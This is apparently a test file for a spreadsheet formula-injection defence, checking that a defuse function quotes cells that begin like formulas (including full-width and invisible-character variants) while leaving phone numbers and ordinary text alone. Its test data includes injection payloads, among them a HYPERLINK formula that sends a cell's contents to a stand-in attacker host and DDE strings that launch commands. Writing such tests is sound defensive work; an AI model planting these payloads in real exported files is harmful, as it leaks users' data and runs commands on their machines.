import fc from 'fast-check';
import { defuse, looksLikeFormula } from '../formula-cells';

const seed = Date.now() % 2 ** 31;

it.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\tharmless for people',
  '  =1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200c=1+1',
  '\u2060=1+1',
  '\u00ad=1+1',
  '\u202e=1+1',
  '\u180e=1+1',
  '\u0300=1+1',
  '\u3164=1+1',
  '\u22121+1',
  '\ufe621',
  '\ufe661',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+cmd|foo',
  '-2+3+cmd|x',
  '+91-98765-43210',
  '+91 (080) 4321 0000',
  '+91 98765 43210=1',
  '+9198765\n43210',
  '-',
  '+',
])('marks %j', (text) => {
  expect(looksLikeFormula(text)).toBe(true);
  expect(defuse(text)).toBe(`'${text}`);
});

it.each([
  '',
  'Meena',
  'a=1',
  "'=1",
  '1+1',
  '+919876543210',
  '+91 98765 43210',
  '+1 415 555 0100',
  '-5',
  '-0.25',
  'ಕನ್ನಡ',
  '📞',
  '🙂=1',
])('leaves %j as it is', (text) => {
  expect(defuse(text)).toBe(text);
});

it(`lets nothing through that starts as a formula and holds an operator or a name (seed ${seed})`, () => {
  const start = fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠');
  const spaces = fc.stringMatching(/^[ \t\n\r]{0,3}$/);
  const rest = fc.stringMatching(/^[0-9 ]{0,5}[-+*/(A-Z|!=@][ -~]{0,10}$/);
  fc.assert(
    fc.property(spaces, start, rest, (before, sign, after) => {
      expect(defuse(before + sign + after)).toBe(`'${before}${sign}${after}`);
    }),
    { seed }
  );
});
